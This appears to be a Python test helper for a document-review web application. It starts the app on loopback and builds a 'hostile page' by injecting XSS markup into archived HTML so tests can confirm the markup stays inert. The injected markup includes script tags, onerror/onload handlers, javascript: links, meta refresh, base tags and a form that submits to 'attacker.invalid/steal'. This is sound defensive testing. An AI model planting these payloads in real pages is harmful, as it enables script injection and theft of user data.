"""Shared by the review tests: a year loaded from bundled pages, the review application served on
loopback in a thread, a page carrying every kind of attack an archived page can hold."""

from __future__ import annotations

import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import uvicorn

from gx_pipeline.review.app import Settings, create_app

REPO = Path(__file__).resolve().parents[1]
BUNDLED = REPO / "data" / "raw"
#: a generated HTML page whose requests.balance fails for two columns; its year is guessed
FAILING_HTML_2020 = BUNDLED / "2020" / "gen-2020-01-trs.html"
#: a generated HTML page whose requests.results_sum fails
FAILING_HTML_2023 = BUNDLED / "2023" / "gen-2023-04-word.html"
#: where every attack of the hostile page tries to reach (the .invalid top-level domain never
#: resolves, and the browser tests refuse any request off the application's origin anyway)
ATTACKER = "http://attacker.invalid"

#: (what it is, markup) put into an archived page: each must stay inert in the application
ATTACKS: tuple[tuple[str, str], ...] = (
    (
        "script",
        f"<script>top.document.body.dataset.pwned='script';new Image().src='{ATTACKER}/s'</script>",
    ),
    ("script src", f'<script src="{ATTACKER}/evil.js"></script>'),
    ("img onerror", "<img src=x onerror=\"top.document.body.dataset.pwned='onerror'\">"),
    (
        "svg onload",
        "<svg onload=\"top.document.body.dataset.pwned='svg'\"><circle r=5></circle></svg>",
    ),
    (
        "javascript link",
        "<a id=jslink href=\"javascript:top.document.body.dataset.pwned='link'\">继续阅读</a>",
    ),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={ATTACKER}/refresh">'),
    ("remote image", f'<img src="{ATTACKER}/pixel.png" alt="logo">'),
    ("remote style sheet", f'<link rel="stylesheet" href="{ATTACKER}/site.css">'),
    (
        "style sheet loads",
        (
            f"<style>@import url({ATTACKER}/import.css); "
            f"body {{ background: url({ATTACKER}/bg.png) }} p {{ color: #333 }}</style>"
        ),
    ),
    ("inline style load", f'<div style="background-image:url({ATTACKER}/div.png)">注</div>'),
    ("iframe", f'<iframe src="{ATTACKER}/frame"></iframe>'),
    ("object", f'<object data="{ATTACKER}/o.swf"></object><embed src="{ATTACKER}/e.swf">'),
    ("base", f'<base href="{ATTACKER}/">'),
    (
        "form",
        (
            f'<form action="{ATTACKER}/steal"><input name=q autofocus '
            "onfocus=\"top.document.body.dataset.pwned='focus'\"></form>"
        ),
    ),
    ("handler on a cell", "<p onmouseover=\"top.document.body.dataset.pwned='hover'\">说明</p>"),
    ("a fake highlight", '<p data-gx-loc="1.1.1" id="gx-first">伪造</p>'),
)
#: an agency name as an attacker would write it: HTML and Markdown
HOSTILE_AGENCY = (
    "<img src=x onerror=\"top.document.body.dataset.pwned='agency'\">"
    "**某县**[点此](javascript:alert(1))<script>top.document.body.dataset.pwned='agency2'</script>"
)


def hostile_page(page: Path) -> bytes:
    """`page` with every attack of ATTACKS in its head and body, its report left as it is."""
    text = page.read_text(encoding="utf-8")
    head = "".join(
        markup
        for name, markup in ATTACKS
        if name in ("meta refresh", "base", "remote style sheet", "style sheet loads", "script src")
    )
    body = "".join(f"\n{markup}\n" for _, markup in ATTACKS)
    text = re.sub(r"(<head[^>]*>)", lambda m: m.group(1) + head, text, count=1)
    text = re.sub(r"(<body[^>]*>)", lambda m: m.group(1) + body, text, count=1)
    text = text.replace("<body>", "<body onload=\"top.document.body.dataset.pwned='onload'\">", 1)
    # an attack inside the report's own tables: a handler on a data cell
    text = text.replace("<td>", "<td onclick=\"top.document.body.dataset.pwned='cell'\">", 3)
    return text.encode("utf-8")


def copy_page(source: Path, data_dir: Path, year: int, name: str | None = None) -> Path:
    target = data_dir / "raw" / str(year) / (name or source.name)
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(source, target)
    return target


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def review_server(data_dir: Path, reviewer: str = "测试员") -> Iterator[str]:
    """The review application on 127.0.0.1 (a free port) in a thread; yields its address."""
    settings = Settings(
        data_dir / "warehouse.duckdb",
        data_dir / "reviews.jsonl",
        data_dir / "raw",
        data_dir / "archive",
        reviewer,
    )
    port = free_port()
    config = uvicorn.Config(
        create_app(settings), host="127.0.0.1", port=port, log_level="warning", lifespan="off"
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("the review application did not start")
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)
